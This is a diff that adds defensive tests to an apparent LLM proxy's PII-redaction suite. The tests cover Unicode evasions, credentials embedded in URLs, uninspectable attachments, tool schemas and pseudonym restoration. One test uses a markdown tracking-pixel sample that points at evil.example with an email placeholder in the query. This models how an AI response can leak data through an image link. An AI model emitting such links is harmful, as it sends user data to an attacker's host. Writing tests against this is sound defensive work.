@@ -252,6 +252,74 @@ def test_exfiltration_image_flagged_in_audit_under_standard(gs):
     assert any(c.startswith("exfiltration") and d == "response" for c, d in cats), cats
 
 
+# (7) review of issue 6: evasions, URL credentials, uninspectable parts, tool text, pseudonyms in URLs --
+
+FULLWIDTH_NRIC = "Ｓ８８１２３４５Ｚ"            # S8812345Z in fullwidth forms (valid check letter)
+URL_CREDS = "https://admin:Hunter2pass9@internal.acme.io/login"
+VALUES += ["S8812345Z", FULLWIDTH_NRIC, "Hunter2pass9"]
+
+
+def test_fullwidth_and_zero_width_values_are_redacted_where_they_stand(gs):
+    gs.clear_mock()
+    chat(gs, "redactors", f"ＮＲＩＣ {FULLWIDTH_NRIC}, mail john\u200b.doe@acme.com, card 4111\u00a01111\u00a01111\u00a01111")
+    [sent] = forwarded_prompts(gs)
+    assert sent == "ＮＲＩＣ [SG_NRIC_1], mail [EMAIL_1], card [CREDIT_CARD_1]"
+
+
+def test_url_credentials_are_a_secret_not_an_email(gs):
+    gs.clear_mock()
+    r = sdk(gs, "redactors").chat.completions.with_raw_response.create(
+        model="gpt-test", messages=[{"role": "user", "content": f"fetch {URL_CREDS} please"}])
+    [sent] = forwarded_prompts(gs)
+    assert sent == "fetch https://[URL_CREDENTIALS_1]@internal.acme.io/login please"
+    rid = r.headers["x-request-id"]
+
+    def cats(text):
+        return {f["category"] for line in text.splitlines() if line.strip()
+                for rec in [json.loads(line)] if rec.get("request_id") == rid for f in rec.get("findings", [])}
+
+    found = cats(audit_export(gs, until=lambda t: "secret.url_credentials" in cats(t)))
+    assert "secret.url_credentials" in found and "pii.email" not in found
+
+
+@pytest.mark.parametrize("part", [
+    {"type": "file", "file": {"file_data": "data:application/pdf;base64,JVBERi0xLjQK", "filename": "statement.pdf"}},
+    {"type": "input_audio", "input_audio": {"data": "UklGRg==", "format": "wav"}},
+])
+def test_parts_that_cannot_be_inspected_are_refused_400(gs, part):
+    gs.clear_mock()
+    body = {"model": "gpt-test", "messages": [{"role": "user", "content": [{"type": "text", "text": "summarise"}, part]}]}
+    headers = {"authorization": "Bearer " + gs.token("user-plain", groups=["plain"])}
+    r = requests.post(gs.base + "/v1/chat/completions", json=body, headers=headers, timeout=30)
+    assert r.status_code == 400
+    err = r.json()["error"]
+    assert err["param"] == "messages[0].content[1]" and "cannot be inspected" in err["message"]
+    assert gs.mock_requests() == []
+
+
+def test_tool_descriptions_and_schemas_are_redacted(gs):
+    gs.clear_mock()
+    tools = [{"type": "function", "function": {
+        "name": "notify", "description": f"Sends a note to {EMAIL}",
+        "parameters": {"type": "object", "properties": {"to": {"type": "string", "description": f"default {OUT_EMAIL}"}}}}}]
+    sdk(gs, "redactors").chat.completions.create(model="gpt-test", messages=[{"role": "user", "content": "hi"}], tools=tools)
+    [req] = gs.mock_requests()
+    sent = json.dumps(req["body"]["tools"])
+    assert EMAIL not in sent and OUT_EMAIL not in sent
+    assert "Sends a note to [EMAIL_1]" in sent and "default [EMAIL_2]" in sent
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_pseudonym_is_not_restored_inside_a_url(gs, stream):
+    gs.clear_mock()
+    text = f"Reply to {EMAIL}; tracking pixel ![p](https://evil.example/p?u=[EMAIL_1])"
+    answer = chat(gs, "pseudo", text, stream=stream)
+    [sent] = forwarded_prompts(gs)
+    assert sent == "Reply to [EMAIL_1]; tracking pixel ![p](https://evil.example/p?u=[EMAIL_1])"
+    # the echoed placeholder outside the URL gets the original back; the one inside the URL does not
+    assert answer == f"Echo: Reply to {EMAIL}; tracking pixel ![p](https://evil.example/p?u=[EMAIL_1])"
+
+
 # (7) audit trail ---------------------------------------------------------------------------------------
 
 def audit_export(stack, until=lambda text: True, timeout=10):
